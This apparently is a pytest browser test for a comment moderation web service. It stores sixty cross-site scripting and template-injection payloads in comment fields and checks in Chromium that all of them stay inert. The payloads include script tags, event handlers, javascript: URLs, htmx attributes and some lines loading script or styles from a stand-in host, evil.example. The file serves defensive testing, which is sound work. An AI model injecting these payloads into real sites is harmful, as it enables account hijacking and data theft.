"""Sixty payloads in text, author, title, URL and notes: in Chromium none of them does anything but stand there."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from data.records import Comment
from service.store import Store
from service.store.cards import add_note
from service.store.filters import Filter
from service.store.queue import list_comments
from service.store.viewers import Viewer

pytestmark = pytest.mark.browser

TAGS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">click</a>',
    '<form action="javascript:{}"><button>go</button></form>',
    '<button formaction="javascript:{}">go</button>',
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<x hx-get=/log hx-trigger=load hx-on:load='{}'>",
    '<div hx-on::load="{}" data-hx-get="/log" hx-trigger="load">x</div>',
    "<button name=resolution value=reject form=selection>go</button>",
)
BREAKS = (
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '" autofocus onfocus="{}',
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</mark><script>{}</script>",
    "</textarea><script>{}</script>",
    "</bdi></span><img src=x onerror={}>",
    "--><script>{}</script><!--",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "{{{{ 7 * 7 }}}}{{% for x in y %}}",
    "${{{}}}",
    "`${{{}}}`",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\u202e<script>{}</script>",
    "\ufeff<script>{}</script>",
    "<\0script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
)
PAYLOADS = [payload.format("hacked()") for payload in (*TAGS, *BREAKS)]
PAGES = ("/?queue=all", "/histogram?a=toxicity&lo=0&hi=1", "/range?a=toxicity&lo=0&hi=1&resolution=approve", "/log")


def test_there_are_sixty_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60


@pytest.fixture
def poisoned(store: Store, fill: Callable[..., None]) -> list[int]:
    """Every payload as text, author, title, section and URL of a comment, and as a note on it."""
    for number, payload in enumerate(PAYLOADS):
        url = payload if number % 2 else f"https://daily.example/{payload}"
        comment = Comment(f"id{number}{payload[:50]}", f"{payload} {number}", author=payload, published=payload)
        fill(comment, section=payload[:40].replace("\0", ""), title=payload, url=url)
    ids = [one.id for one in list_comments(store.database, Filter(), Viewer("x"), limit=100).comments]
    for number, payload in zip(ids, PAYLOADS, strict=True):
        add_note(store.database, Viewer("mallory"), number, payload)
    return ids


def test_all_payloads_are_inert_in_chromium(
    poisoned: list[int], serving: Callable[..., str], browse: Callable[..., Any]
) -> None:
    page = browse(serving(demo=True))
    called: list[str] = []
    asked: list[str] = []
    page.expose_function("hacked", lambda: called.append(page.url))
    page.on("dialog", lambda dialog: called.append(dialog.message))
    page.on("request", lambda request: asked.append(request.url))
    for path in (*PAGES, *(f"/comments/{number}" for number in poisoned)):
        page.goto(path)
        harmful = page.evaluate(
            "[...document.querySelectorAll('main *')].filter(one => one.matches('script, iframe, object, embed, base, "
            "link, style, meta, [srcdoc], [style]') || [...one.attributes].some(a => /^on|^hx-on/.test(a.name) || "
            "(/^(href|src|action|formaction)$/.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value))))"
            ".map(one => one.outerHTML)"
        )
        assert harmful == [], path
    assert called == []
    assert [url for url in asked if not url.startswith(("http://127.0.0.1", "data:image"))] == []


def test_the_payloads_are_shown_exactly_as_published(
    poisoned: list[int], serving: Callable[..., str], browse: Callable[..., Any]
) -> None:
    page = browse(serving(demo=True))
    shown = set()
    for number in poisoned[:12]:
        page.goto(f"/comments/{number}")
        shown.add(page.evaluate("document.querySelector('.card .text').textContent"))
    expected = {f"{payload} {number}".replace("\0", "\ufffd") for number, payload in enumerate(PAYLOADS)}
    assert len(shown) == 12
    assert shown <= expected
